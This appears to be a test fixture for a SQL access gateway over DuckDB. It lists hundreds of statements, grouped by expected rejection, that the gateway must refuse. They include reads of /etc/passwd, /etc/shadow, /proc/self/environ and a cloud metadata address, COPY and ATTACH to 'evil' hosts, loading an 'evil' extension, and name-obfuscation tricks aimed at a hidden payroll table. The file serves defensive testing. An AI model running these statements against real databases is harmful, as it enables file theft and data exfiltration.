-- Statements that must not run, under the refusal they must meet: `-- expect: forbidden`, `unsupported`, `unknown table`,
-- `unknown function`, `syntax`, `multiple`, `too deep`,
-- `unknown bucket`. A statement starts at the margin; lines that go on are indented.
-- The caller may read: main (TPC-H), sales (t, u, "Weird Table"), hr (person, events), linked (price). The engine also
-- holds p_other (whose bucket `shared` is linked), p_secret.main.payroll, and what every engine holds.

-- expect: forbidden
-- reading and writing files through functions
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd', header=false)
SELECT * FROM read_parquet('s3://bucket/x.parquet')
SELECT * FROM read_parquet(['a.parquet', 'b.parquet'])
SELECT * FROM parquet_scan('x.parquet')
SELECT * FROM read_json('x.json')
SELECT * FROM read_json_auto('x.json')
SELECT * FROM read_ndjson_objects('x.json')
SELECT content FROM read_text('/etc/passwd')
SELECT content FROM read_blob('/etc/shadow')
SELECT * FROM "read_text"('/etc/passwd')
SELECT * FROM READ_TEXT('/etc/passwd')
SELECT * FROM rEaD_tExT/**/('/etc/passwd')
SELECT * FROM main.read_text('/etc/passwd')
SELECT * FROM system.main.read_text('/etc/passwd')
SELECT * FROM glob('/*')
SELECT * FROM glob('s3://lake/**')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM parquet_metadata('x.parquet')
SELECT * FROM parquet_schema('x.parquet')
SELECT * FROM parquet_kv_metadata('x.parquet')
SELECT * FROM parquet_file_metadata('x.parquet')
SELECT * FROM read_duckdb('/data/other.duckdb')
SELECT * FROM read_csv((SELECT '/etc/passwd'))
SELECT * FROM read_csv($1)
SELECT * FROM read_csv(getvariable('path'))
SELECT * FROM read_csv('/etc/' || 'passwd')
SELECT * FROM read_csv(['/etc/passwd'])
SELECT * FROM read_csv(E'/etc/\x70asswd')
SELECT * FROM read_csv($$/etc/passwd$$)
SELECT * FROM read_csv('/raw/x.csv' , filename = true, store_rejects = true)
SELECT * FROM read_parquet('/raw/../../p_secret/x.parquet')
SELECT * FROM read_parquet('file:///etc/passwd')
SELECT * FROM read_parquet('http://169.254.169.254/latest/meta-data/')
SELECT * FROM read_parquet('hf://datasets/x/y.parquet')
SELECT * FROM read_json('/dev/stdin')
SELECT * FROM read_json('/proc/self/environ', format = 'unstructured')
SELECT * FROM read_csv('gcs://bucket/x.csv')
SELECT * FROM parquet_bloom_probe('x.parquet', 'a', 1)
SELECT * FROM read_json_objects('x.json')
SELECT * FROM read_ndjson('x.json')
SELECT * FROM read_ndjson_auto('x.json')
SELECT * FROM read_json_objects_auto('x.json')
SELECT * FROM arrow_scan_dumb(1, 2, 3)
SELECT (FROM read_blob('/etc/shadow'))[1]
SELECT read_text('/etc/passwd')
SELECT ('/etc/passwd').read_text()
SELECT * FROM read_csv(?)
SELECT * FROM sales.t, read_text('/etc/passwd')
SELECT * FROM sales.t JOIN read_text('/etc/passwd') ON true
SELECT * FROM sales.t, LATERAL (SELECT * FROM read_text(t.name))
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT id FROM sales.t WHERE EXISTS (SELECT 1 FROM read_text('/etc/passwd'))
SELECT id FROM sales.t ORDER BY (SELECT count(*) FROM glob('/*'))
SELECT id FROM sales.t LIMIT (SELECT count(*) FROM glob('/*'))
SELECT id FROM sales.t LIMIT 1 OFFSET (SELECT count(*) FROM glob('/*'))
SELECT DISTINCT ON ((SELECT count(*) FROM glob('/*'))) id FROM sales.t
SELECT id FROM sales.t GROUP BY id HAVING count(*) > (SELECT count(*) FROM glob('/*'))
SELECT id FROM sales.t GROUP BY GROUPING SETS ((id), ((SELECT count(*) FROM glob('/*'))))
SELECT id FROM sales.t QUALIFY row_number() OVER (ORDER BY (SELECT count(*) FROM glob('/*'))) = 1
SELECT sum(id) FILTER (WHERE id > (SELECT count(*) FROM glob('/*'))) FROM sales.t
SELECT list(id ORDER BY (SELECT count(*) FROM glob('/*'))) FROM sales.t
SELECT sum(id) OVER (PARTITION BY (SELECT count(*) FROM glob('/*'))) FROM sales.t
SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN (SELECT count(*) FROM glob('/*')) PRECEDING AND CURRENT ROW) FROM sales.t
SELECT lag(id, 1, (SELECT count(*) FROM glob('/*'))) OVER (ORDER BY id) FROM sales.t
SELECT CASE WHEN true THEN (SELECT count(*) FROM glob('/*')) END
SELECT CASE 1 WHEN (SELECT count(*) FROM glob('/*')) THEN 1 END
SELECT list_transform([1], x -> (SELECT count(*) FROM glob('/*')))
SELECT [x FOR x IN [1] IF (SELECT count(*) FROM glob('/*')) > 0]
SELECT {'a': (SELECT count(*) FROM glob('/*'))}
SELECT [1, 2][(SELECT count(*) FROM glob('/*'))]
SELECT (SELECT count(*) FROM glob('/*'))::VARCHAR
SELECT 1 BETWEEN 0 AND (SELECT count(*) FROM glob('/*'))
SELECT 1 IN (SELECT count(*) FROM glob('/*'))
SELECT 1 = ANY (SELECT count(*) FROM glob('/*'))
SELECT ARRAY(SELECT file FROM glob('/*'))
SELECT 'a' COLLATE nocase = (SELECT file FROM glob('/*'))
SELECT * REPLACE ((SELECT count(*) FROM glob('/*')) AS id) FROM sales.t
SELECT COLUMNS(c -> c = (SELECT file FROM glob('/*'))) FROM sales.t
SELECT * FROM (VALUES ((SELECT count(*) FROM glob('/*'))))
VALUES ((SELECT count(*) FROM glob('/*')))
SELECT * FROM range((SELECT count(*) FROM glob('/*')))
SELECT * FROM unnest((SELECT list(file) FROM glob('/*')))
SELECT * FROM sales.t AT (VERSION => (SELECT count(*) FROM glob('/*')))
SELECT * FROM sales.t a JOIN sales.u b ON a.id = (SELECT count(*) FROM glob('/*'))
SELECT * FROM sales.t PIVOT (sum((SELECT count(*) FROM glob('/*'))) FOR name IN ('a'))
SELECT * FROM (SELECT * FROM glob('/*')) PIVOT (count(*) FOR file IN ('a'))
SELECT * FROM (UNPIVOT (SELECT * FROM glob('/*')) ON file)
WITH x AS (SELECT * FROM glob('/*')) SELECT 1
WITH x AS MATERIALIZED (SELECT * FROM glob('/*')) SELECT * FROM x
WITH RECURSIVE x AS (SELECT 1 AS a UNION ALL SELECT count(*) FROM glob('/*'), x) SELECT * FROM x
SELECT 1 UNION ALL SELECT count(*) FROM glob('/*')
(SELECT 1) EXCEPT (SELECT count(*) FROM glob('/*')) ORDER BY 1
DESCRIBE SELECT * FROM glob('/*')
SUMMARIZE SELECT * FROM glob('/*')
SELECT * FROM (DESCRIBE SELECT * FROM read_text('/etc/passwd'))
FROM glob('/*')
FROM (FROM (FROM glob('/*')))
-- SQL in strings
SELECT * FROM query('SELECT 1')
SELECT * FROM query('SELECT ' || '1')
SELECT * FROM query_table('t')
SELECT * FROM query_table(['t', 'u'])
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))
SELECT json_execute_serialized_sql('{}')
SELECT json_serialize_sql('SELECT 1')
SELECT json_serialize_plan('SELECT * FROM payroll')
SELECT json_deserialize_sql('{}')
SELECT * FROM histogram('t', id)
SELECT * FROM histogram_values('t', id)
SELECT * FROM from_substrait('x'::BLOB)
SELECT * FROM query($$SELECT * FROM p_secret.main.payroll$$)
SELECT * FROM query(E'SELECT \x31')
SELECT * FROM "query"('FROM p_secret.main.payroll')
SELECT * FROM system.main."query"('SELECT 1')
SELECT * FROM query(getvariable('x'))
SELECT * FROM query(?)
SELECT * FROM query_table($1)
SELECT * FROM query_table(query_table('t'))
SELECT * FROM query_table("sales.t")
SELECT * FROM query_table('p_secret.main.payroll', true)
SELECT (FROM query('SELECT 1'))
SELECT * FROM sales.t, LATERAL query('SELECT ' || t.id)
SELECT * FROM sql_auto_complete('SEL')
SELECT * FROM sales.t, LATERAL query_table(t.name)
WITH q AS (FROM query('SELECT 1')) SELECT * FROM q, LATERAL (FROM q)
SELECT list_transform(['payroll'], x -> (FROM query_table(x)))
-- other databases
SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 'x')
SELECT * FROM postgres_scan_pushdown('host=127.0.0.1', 'public', 'x')
SELECT * FROM postgres_query('__ducklake_metadata_p_test', 'SELECT 1')
SELECT * FROM postgres_execute('__ducklake_metadata_p_test', 'DROP TABLE x')
SELECT * FROM postgres_attach('host=127.0.0.1')
SELECT * FROM sqlite_scan('x.db', 't')
SELECT * FROM mysql_query('db', 'SELECT 1')
SELECT * FROM ducklake_snapshots('p_test')
SELECT * FROM ducklake_table_changes('p_secret', 'main', 'payroll', 0, 9)
SELECT * FROM ducklake_table_insertions('p_secret', 'main', 'payroll', 0, 9)
SELECT * FROM ducklake_list_files('p_secret', 'payroll')
SELECT * FROM ducklake_add_data_files('p_test', 't', 'x.parquet')
SELECT * FROM ducklake_expire_snapshots('p_test')
SELECT * FROM ducklake_set_option('p_test', 'a', 'b')
SELECT * FROM pandas_scan(1)
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM seq_scan('x')
-- the engine's state
SELECT current_setting('secret_directory')
SELECT CURRENT_SETTING('allowed_directories')
SELECT "current_setting"('threads')
SELECT getvariable('x')
SELECT nextval('s')
SELECT currval('p_secret.main.s')
SELECT setseed(0.5)
SELECT write_log('x')
SELECT sleep_ms(100000)
SELECT pg_sleep(1000)
SELECT txid_current()
SELECT current_query()
SELECT current_connection_id()
SELECT current_database(), current_schemas(true)
SELECT in_search_path('p_secret', 'main')
SELECT getenv('PATH')
SELECT pg_get_viewdef(1)
SELECT format_type(1, 2)
SELECT get_block_size('p_secret')
SELECT parse_duckdb_log_message('x', 'y')
SELECT pg_catalog.pg_get_viewdef(1)
SELECT system.main.current_setting('threads')
SELECT pg_catalog.upper('a')
SELECT memory.main.upper('a')
SELECT current_setting('threads') OVER ()
SELECT name.current_setting() FROM sales.t
SELECT ('threads').current_setting()
SELECT list_transform(['threads'], x -> current_setting(x))
SELECT list_transform(['threads'], lambda x: x.current_setting())
SELECT [current_setting(x) FOR x IN ['threads']]
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_functions()
SELECT * FROM duckdb_types()
SELECT * FROM duckdb_constraints()
SELECT * FROM duckdb_sequences()
SELECT * FROM duckdb_tables('x')
SELECT * FROM system.main.duckdb_tables()
SELECT * FROM duckdb_secrets
SELECT * FROM duckdb_extensions()
SELECT * FROM duckdb_logs()
SELECT * FROM duckdb_variables()
SELECT * FROM duckdb_temporary_files()
SELECT * FROM duckdb_external_file_cache()
SELECT * FROM which_secret('s3://x', 's3')
SELECT * FROM pragma_table_info('p_secret.main.payroll')
SELECT * FROM pragma_database_size()
SELECT * FROM pragma_show('payroll')
SELECT * FROM pragma_storage_info('payroll')
SELECT * FROM summary((SELECT 1))
SELECT * FROM test_all_types()
SELECT * FROM checkpoint()
SELECT * FROM force_checkpoint('p_test')
SELECT * FROM enable_logging()
SELECT * FROM enable_profiling()
SELECT * FROM truncate_duckdb_logs()
SELECT * FROM pg_clear_cache()
SELECT __internal_decompress_string(1::UTINYINT)
SELECT finalize('x')
SELECT combine('x', 'y')
SELECT variant_bytes_to_variant('\x00'::BLOB)
SELECT icu_collate_de('x')
-- catalogs nobody reads
SELECT * FROM p_test.information_schema.tables
SELECT * FROM p_secret.information_schema.tables
SELECT * FROM main.information_schema.tables
SELECT * FROM "lake".pg_catalog.pg_settings
SELECT * FROM pg_catalog.pg_settings
SELECT * FROM pg_catalog.duckdb_tables
SELECT * FROM information_schema.pg_class
DESCRIBE p_secret.information_schema.tables
SELECT * FROM duckdb_settings
SELECT * FROM "duckdb_secrets"
SELECT * FROM pragma_database_list
SELECT * FROM system.main.duckdb_settings
SELECT * FROM system.duckdb_settings
SELECT * FROM memory.main.t
SELECT * FROM memory.t
SELECT * FROM temp.main.t
SELECT * FROM temp.t
SELECT * FROM __ducklake_metadata_p_test.main.ducklake_table
SELECT * FROM "__ducklake_metadata_p_test".ducklake_table
SELECT * FROM __DuckLake_Metadata_p_secret.p_secret.ducklake_data_file
SELECT * FROM __ducklake_metadata_p_test
SELECT * FROM "__DUCKLAKE_METADATA_P_TEST"."main"."ducklake_snapshot_changes"
SELECT * FROM __ducklake_metadata_p_test/**/./* x */main.ducklake_data_file
SELECT * FROM sales.t WHERE id IN (SELECT table_id FROM __ducklake_metadata_p_test.ducklake_table)
FROM __ducklake_metadata_p_secret.ducklake_inlined_data_tables
SUMMARIZE __ducklake_metadata_p_test.ducklake_metadata
PIVOT __ducklake_metadata_p_test.ducklake_table ON table_id IN (1) USING count(*)
WITH __ducklake_metadata_p_test AS (SELECT 1) SELECT * FROM __ducklake_metadata_p_test.ducklake_table
SELECT * FROM pg_catalog.pg_authid
SELECT * FROM pg_catalog.pg_shadow
SELECT * FROM information_schema.role_table_grants
SELECT * FROM temp.information_schema.tables
SELECT * FROM pg_temp.t
DESCRIBE __ducklake_metadata_p_test.main.ducklake_table
WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings, system.main.duckdb_settings
SELECT * FROM (WITH duckdb_settings AS (SELECT 1) SELECT * FROM duckdb_settings), duckdb_settings
WITH duckdb_settings AS (SELECT * FROM duckdb_settings) SELECT * FROM duckdb_settings
WITH a AS (SELECT * FROM duckdb_settings), duckdb_settings AS (SELECT 1) SELECT * FROM a
-- statements that are no queries
ATTACH 'x.duckdb'
ATTACH 'ducklake:postgres:' AS x (DATA_PATH 's3://other/')
attach/**/'x.duckdb' AS y
ATTACH IF NOT EXISTS 'x.duckdb'
ATTACH DATABASE '/data/p_secret/lake.db' AS mine (READ_ONLY)
ATTACH 'https://evil/x.duckdb' AS evil
ATTACH 'host=127.0.0.1 dbname=x' AS pg (TYPE postgres)
ATTACH ':memory:' AS p_secret
ATTACH OR REPLACE 'x.duckdb' AS p_test
-- a comment line stands indented, for this file's sake
/* a */ -- b
  ATTACH 'x.duckdb'
DETACH p_test
DETACH DATABASE IF EXISTS p_test
INSTALL httpfs
FORCE INSTALL httpfs
LOAD '/tmp/evil.duckdb_extension'
LOAD spatial
SET threads = 100
SET allowed_directories = ['/']
SET GLOBAL s3_secret_access_key = 'x'
SET LOCAL memory_limit = '1TB'
SET home_directory = '/tmp'
SET lock_configuration = false
SET custom_extension_repository = 'http://x'
SET file_search_path = '/etc'
SET VARIABLE "sales.t" = 'p_secret.main.payroll'
SET TIME ZONE 'UTC'
RESET VARIABLE x
SET GLOBAL enable_external_access = true
SET VARIABLE x = 1
SET search_path = 'p_secret.main'
SET SESSION schema = 'p_secret'
RESET threads
RESET ALL
\copy x
PRAGMA database_list
PRAGMA table_info('payroll')
PRAGMA enable_profiling
PRAGMA json_execute_serialized_sql('{}')
PRAGMA version
USE p_secret
USE memory.main
EXPORT DATABASE '/tmp/x'
EXPORT DATABASE p_secret TO '/tmp/x' (FORMAT PARQUET)
IMPORT DATABASE '/tmp/x'
CALL pragma_version()
CALL ducklake_expire_snapshots('p_test')
CALL postgres_execute('x', 'y')
CHECKPOINT
FORCE CHECKPOINT p_test
VACUUM
VACUUM ANALYZE
ANALYZE
PREPARE q AS SELECT 1
PREPARE q AS SELECT * FROM p_secret.main.payroll
PREPARE q (INTEGER) AS SELECT $1
prepare/**/q/**/AS INSERT INTO sales.t VALUES (1)
EXECUTE q(x := 1)
EXECUTE "q"
DEALLOCATE PREPARE q
DEALLOCATE ALL
EXECUTE q
EXECUTE q(1, 2)
DEALLOCATE q
CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
CREATE OR REPLACE PERSISTENT SECRET s (TYPE s3)
CREATE TEMPORARY SECRET s (TYPE postgres, HOST 'x')
CREATE SECRET IF NOT EXISTS s IN local_file (TYPE s3, PROVIDER credential_chain)
create/**/secret (TYPE s3, SCOPE 's3://lake')
CREATE OR REPLACE SECRET __default_s3 (TYPE s3, ENDPOINT 'evil')
DROP PERSISTENT SECRET IF EXISTS s FROM local_file
ALTER SECRET s (TYPE s3)
DROP SECRET s
BEGIN
BEGIN TRANSACTION
START TRANSACTION
COMMIT
ROLLBACK
ABORT
COPY sales.t TO '/tmp/x.csv'
COPY (SELECT 1) TO 's3://other/x.parquet' (FORMAT PARQUET)
COPY sales.t FROM '/etc/passwd'
COPY FROM DATABASE p_test TO p_other
COPY (SELECT 1) TO '/dev/stdout'
COPY (SELECT * FROM p_secret.main.payroll) TO '/tmp/x' (FORMAT CSV)
COPY p_secret.main.payroll TO 's3://evil/x.parquet'
COPY sales.t FROM 'http://evil/x.csv' (FORMAT CSV)
COPY sales.t TO '/tmp/x' (FORMAT duckdb)
copy/**/(FROM sales.t)/**/to/**/'/tmp/x'
COPY FROM DATABASE p_secret TO memory (SCHEMA)
UPDATE EXTENSIONS
SELECT 1; ATTACH 'x'
SELECT 1; COPY sales.t TO '/tmp/x'; SELECT 2
INSERT INTO sales.t VALUES (1); DETACH p_test
SELECT 1;;; SET threads = 1

-- expect: unsupported
INSERT INTO sales.t VALUES (1)
INSERT OR REPLACE INTO sales.t SELECT * FROM p_secret.main.payroll
insert into sales.t by name select 1 as id returning *
UPDATE sales.t SET id = 1
DELETE FROM sales.t
DELETE FROM sales.t USING sales.u WHERE t.id = u.id
TRUNCATE sales.t
MERGE INTO sales.t USING sales.u ON t.id = u.id WHEN MATCHED THEN DELETE
WITH x AS (SELECT 1 AS id) INSERT INTO sales.t (id) SELECT id FROM x
WITH x AS (SELECT 1 AS id) DELETE FROM sales.t WHERE id IN (SELECT id FROM x)
CREATE TABLE x AS SELECT 1
CREATE OR REPLACE TABLE sales.t AS SELECT 1 AS id
CREATE TEMP TABLE x (a INTEGER)
CREATE VIEW v AS SELECT * FROM p_secret.main.payroll
CREATE OR REPLACE TEMP VIEW v AS SELECT * FROM read_text('/etc/passwd')
CREATE RECURSIVE VIEW v (a) AS SELECT 1 UNION ALL SELECT a FROM v
CREATE TEMP MACRO upper(a) AS getenv(a)
CREATE OR REPLACE MACRO m(a) AS TABLE FROM query(a)
CREATE MACRO m() AS (SELECT max(pay) FROM p_secret.main.payroll)
CREATE MACRO m(a) AS a + 1
CREATE FUNCTION m(a) AS TABLE SELECT * FROM p_secret.main.payroll
CREATE SCHEMA s
CREATE SEQUENCE s
CREATE TYPE e AS ENUM ('a')
CREATE INDEX i ON sales.t (id)
DROP TABLE sales.t
DROP SCHEMA sales CASCADE
ALTER TABLE sales.t ADD COLUMN x INTEGER
COMMENT ON TABLE sales.t IS 'x'
EXPLAIN SELECT 1
EXPLAIN ANALYZE SELECT * FROM p_secret.main.payroll
PIVOT sales.t ON name USING sum(amount)
SELECT * FROM (PIVOT sales.t ON name USING sum(amount))
WITH p AS (PIVOT sales.t ON name USING sum(amount)) SELECT * FROM p
SELECT * FROM sales.t PIVOT (sum(amount) FOR name IN secret_enum)
SHOW VARIABLES
SELECT * FROM information_schema.tables AT (VERSION => 1)
SELECT * FROM duckdb_tables() WITH ORDINALITY
SELECT 'x'::p_secret.main.mood
SELECT 'x'::mood
SELECT NULL::STRUCT(a mood)
SELECT NULL::mood[]
SELECT [NULL]::MAP(VARCHAR, mood)
SELECT '127.0.0.1'::INET
SELECT DEFAULT
SELECT lead("offset" := 2, col := id) OVER (ORDER BY id) FROM sales.t
SELECT * FROM (sales.t NATURAL JOIN sales.u) NATURAL JOIN (hr.person NATURAL JOIN hr.events)
SELECT * FROM sales.t POSITIONAL JOIN (sales.u POSITIONAL JOIN hr.person)
SELECT sum(id) EXPORT_STATE FROM sales.t
SELECT 1 OPERATOR(pg_catalog.+) 2
SELECT 1 OPERATOR(sum.+) 2
SELECT 1e999
SELECT 'a' COLLATE "de; DROP TABLE x"
SELECT 'a' COLLATE """"
WITH x AS (SELECT 1) SELECT * FROM x AT (VERSION => 1)
SELECT * FROM upper('a')
SELECT json_each('{}')

-- expect: unknown table
-- other projects, by every form of a name
SELECT * FROM p_secret.main.payroll
SELECT * FROM p_secret.payroll
SELECT * FROM "p_secret"."main"."payroll"
SELECT * FROM P_SECRET.Main.PayRoll
SELECT * FROM p_secret/**/./**/main/**/./**/payroll
SELECT * FROM "p_secret.main.payroll"
SELECT * FROM "p_secret"."main.payroll"
SELECT * FROM "p_secret" . "main" . "payroll"
SELECT * FROM p_secret."MAIN".payroll
SELECT * FROM "p_secret"."payroll"
SELECT * FROM p_secret--
  .main.payroll
SELECT * FROM "P_SECRET".main.payroll AS "sales.t"
SELECT * FROM "p_secret" "payroll"
SELECT * FROM lake.main.payroll
SELECT * FROM lake.p_secret.payroll
SELECT * FROM "lake"."p_secret.main"."payroll"
SELECT * FROM p_secret.sales.t
SELECT * FROM p_other.main.customer
SELECT * FROM main.p_secret.payroll
SELECT * FROM "ｐ_secret".main.payroll
SELECT * FROM "p_secret​".main.payroll
SELECT * FROM раyroll
SELECT * FROM "payroll "
SELECT * FROM " payroll"
SELECT * FROM "pay""roll"
SELECT * FROM """payroll"""
SELECT * FROM $$p_secret.main.payroll$$
SELECT * FROM $tag$payroll$tag$
SELECT * FROM sales.t t, LATERAL (SELECT * FROM p_secret.main.payroll LIMIT t.id)
SELECT * FROM (FROM (SELECT (SELECT (SELECT max(id) FROM p_secret.main.payroll))))
SELECT list_transform([1], x -> (SELECT max(id) + x FROM p_secret.main.payroll))
SELECT count(*) FILTER (WHERE id IN (FROM p_secret.main.payroll)) FROM sales.t
SELECT sum(id) OVER (ORDER BY (SELECT max(id) FROM p_secret.main.payroll)) FROM sales.t
SELECT id FROM sales.t ORDER BY (SELECT max(id) FROM p_secret.main.payroll)
SELECT id FROM sales.t LIMIT (SELECT max(id) FROM p_secret.main.payroll)
VALUES ((SELECT max(id) FROM p_secret.main.payroll))
SELECT CASE WHEN false THEN (SELECT max(id) FROM p_secret.main.payroll) END
SELECT 1 WHERE false AND EXISTS (FROM p_secret.main.payroll)
SELECT * FROM unnest((SELECT list(id) FROM p_secret.main.payroll))
SELECT COLUMNS(c -> c IN (SELECT id::VARCHAR FROM p_secret.main.payroll)) FROM sales.t
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT id FROM p_secret.main.payroll, n) FROM n
WITH t AS (SELECT 1) SELECT * FROM sales.payroll
WITH sales AS (SELECT 1) SELECT * FROM sales.payroll
SELECT * FROM payroll
SELECT * FROM main.payroll
SELECT * FROM p_other.main.hidden
SELECT * FROM p_other.shared.price
SELECT * FROM shared.price
SELECT * FROM linked.hidden
SELECT * FROM sales.t, p_secret.main.payroll
SELECT * FROM sales.t JOIN p_secret.main.payroll USING (id)
SELECT (SELECT max(pay) FROM p_secret.main.payroll)
SELECT * FROM (SELECT * FROM (SELECT * FROM p_secret.main.payroll))
SELECT * FROM sales.t WHERE id IN (SELECT id FROM p_secret.main.payroll)
SELECT 1 UNION SELECT id FROM p_secret.main.payroll
FROM p_secret.main.payroll
FROM p_secret.main.payroll AS t(id, pay) SELECT id
TABLE p_secret.main.payroll
DESCRIBE p_secret.main.payroll
SUMMARIZE p_secret.main.payroll
SELECT * FROM (DESCRIBE p_secret.main.payroll)
SELECT * FROM (SUMMARIZE p_secret.main.payroll)
PIVOT p_secret.main.payroll ON id IN (1) USING sum(pay)
UNPIVOT p_secret.main.payroll ON id
SELECT * FROM p_secret.main.payroll AT (VERSION => 1)
SELECT * FROM p_secret.main.payroll TABLESAMPLE 10%
SELECT * FROM sales.t POSITIONAL JOIN p_secret.main.payroll
SELECT * FROM sales.t ASOF JOIN p_secret.main.payroll p ON t.id >= p.id
SELECT * FROM sales.t, LATERAL (SELECT * FROM p_secret.main.payroll p WHERE p.id = t.id)
SELECT * FROM range((SELECT max(id) FROM p_secret.main.payroll))
SELECT * FROM sales.t AT (VERSION => (SELECT max(id) FROM p_secret.main.payroll))
-- text hidden in a name that the engine prints without quotes
SELECT "1 FROM p_secret.main.payroll --".* FROM sales.t AS "1 FROM p_secret.main.payroll --", payroll
SELECT COLUMNS("*) FROM p_secret.main.payroll --".*) FROM p_secret.main.payroll
-- names of WITH outside of their scope, and names that pretend to be one
WITH payroll AS (SELECT 1) SELECT * FROM payroll, p_secret.main.payroll
WITH payroll AS (SELECT * FROM payroll) SELECT * FROM payroll
WITH payroll AS (SELECT 1) SELECT * FROM main.payroll
WITH payroll AS (SELECT 1) SELECT * FROM "Payroll", "payroll ", payroll
WITH a AS (SELECT * FROM payroll), payroll AS (SELECT 1) SELECT * FROM a
SELECT * FROM (WITH payroll AS (SELECT 1) SELECT * FROM payroll) x, payroll
SELECT (WITH payroll AS (SELECT 1) SELECT * FROM payroll) UNION SELECT * FROM payroll
(WITH payroll AS (SELECT 1) SELECT * FROM payroll) UNION ALL (SELECT id FROM payroll)
WITH x AS (WITH payroll AS (SELECT 1) SELECT * FROM payroll) SELECT * FROM x, payroll
WITH RECURSIVE payroll AS (SELECT id FROM payroll UNION ALL SELECT id FROM payroll) SELECT * FROM payroll
WITH RECURSIVE payroll AS (SELECT * FROM payroll) SELECT * FROM payroll
WITH "p_secret.main.payroll" AS (SELECT 1) SELECT * FROM p_secret.main.payroll
WITH p_secret AS (SELECT 1) SELECT * FROM p_secret.payroll
WITH gw_cte_1 AS (SELECT 1 AS a) SELECT * FROM gw_cte_1, gw_cte_2
SELECT * FROM gw_cte_1
WITH x AS (SELECT 1) SELECT * FROM recurring.x
WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT 1 FROM recurring.x) SELECT * FROM x
-- files by name
SELECT * FROM '/etc/passwd'
SELECT * FROM 'file.parquet'
FROM 'file.csv'
SELECT * FROM "file.parquet"
SELECT * FROM 's3://lake/p_secret/main/payroll/x.parquet'
SELECT * FROM 'https://example.com/x.csv'
SELECT * FROM '*.parquet'
SELECT * FROM '../p_secret/x.json'
SELECT * FROM sales."file.parquet"
SELECT * FROM file.parquet
SELECT * FROM 'x.duckdb'
SELECT * FROM 'ducklake:postgres:'
FROM 'file.parquet' SELECT *
FROM 's3://lake/*/*.parquet'
SELECT * FROM 'gs://bucket/x.parquet'
SELECT * FROM 'hf://datasets/x/y.csv'
SELECT * FROM 'data.json.gz'
SELECT * FROM 'x.db'
SELECT * FROM '/raw/x.csv'
SELECT * FROM 'glob(*)'
SELECT * FROM E'/etc/\x70asswd'
SELECT * FROM x."y.parquet"
SELECT * FROM "/etc/passwd" AS p(line)
SELECT * FROM '/dev/fd/0'
SELECT * FROM sales.t ASOF JOIN 'file.parquet' f ON t.id >= f.id
SELECT * FROM sales.t SEMI JOIN 'file.parquet' USING (id)
SELECT (FROM 'file.csv' LIMIT 1)
SELECT * FROM (VALUES (1)) v(a), LATERAL (FROM 'file.csv')
DESCRIBE FROM 'file.parquet'
UNPIVOT 'file.parquet' ON a
-- names of variables that a program around the engine would look up
SELECT * FROM df
SELECT * FROM pandas_df
FROM my_arrow_table
SELECT * FROM os.environ
SELECT * FROM "df"
SELECT * FROM sys_path
DESCRIBE 'file.parquet'
SUMMARIZE 'file.parquet'
SELECT (SELECT count(*) FROM 'file.parquet')
WITH x AS (FROM 'file.parquet') SELECT 1
WITH "file.parquet" AS (SELECT 1) SELECT * FROM (SELECT * FROM "file.parquet") a, 'other.parquet' b
SELECT * FROM (WITH "file.parquet" AS (SELECT 1) FROM "file.parquet") a, "file.parquet" b
PIVOT 'file.parquet' ON a IN (1) USING count(*)
SELECT * FROM sales.t, 'file.parquet'
SELECT * FROM sales.t LEFT JOIN 'file.parquet' USING (id)

-- expect: unknown function
SELECT no_such_function(1)
SELECT * FROM no_such_function(1)
SELECT "sum "(1)
SELECT "sum;drop"(1)
SELECT no_such_function(1) OVER ()
SELECT name.no_such_function() FROM sales.t
SELECT list_transform([1], x -> no_such_function(x))
SELECT sum.no_such_function(1)
SELECT sales.no_such_macro(1)
SELECT * FROM p_table_macro('x')

-- expect: syntax
SELEC 1
SELECT FROM WHERE
SELECT * FROM
SELECT 'unterminated
SELECT 1 INTO OUTFILE '/tmp/x'
SELECT 1 INTO x
SELECT * FROM sales.t FOR UPDATE
SELECT $1, $name
.open /tmp/x
SELECT * FROM U&"p_secret"
SELECT * FROM U&"\0070_secret".main.payroll
SELECT U&'\0061'
SELECT * FROM u&"d!0061ta" UESCAPE '!'
SELECT * FROM [payroll]
SELECT * FROM `payroll`
WITH x AS (DELETE FROM sales.t RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO sales.t VALUES (1) RETURNING *) SELECT * FROM x
SELECT * FROM (INSERT INTO sales.t VALUES (1) RETURNING *)
SELECT * FROM (COPY sales.t TO 'x')
SELECT * FROM (CALL pragma_version())
SELECT * FROM (ATTACH 'x')
/* only a comment */
;

-- expect: multiple
SELECT 1; SELECT 2
SELECT 1; SELECT * FROM p_secret.main.payroll;
SELECT ';'; SELECT 2
SELECT 1;/**/SELECT 2
SELECT 1;--
  SELECT 2
SELECT E'\';'; SELECT 2
SELECT "a;b" FROM (SELECT 1 AS "a;b"); SELECT 2
SELECT $x$;$x$; FROM sales.t
FROM sales.t; FROM sales.t
SELECT 1 /* ; */; /* ; */ SELECT 2 -- ;
SELECT $$;$$; SELECT 1
SELECT 1; INSERT INTO sales.t VALUES (1)

-- expect: too deep
SELECT lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: lambda a: 1
SELECT x -> x -> x -> x -> x -> x -> x -> x -> x -> x -> x -> x -> x -> x -> 1
SELECT j -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 -> 1 FROM sales.t

-- expect: unknown bucket
SHOW TABLES FROM p_secret
SHOW TABLES FROM p_secret.main
SHOW TABLES FROM p_test.sales
SHOW TABLES FROM information_schema
SHOW TABLES FROM shared
SELECT * FROM (SHOW TABLES FROM p_secret)
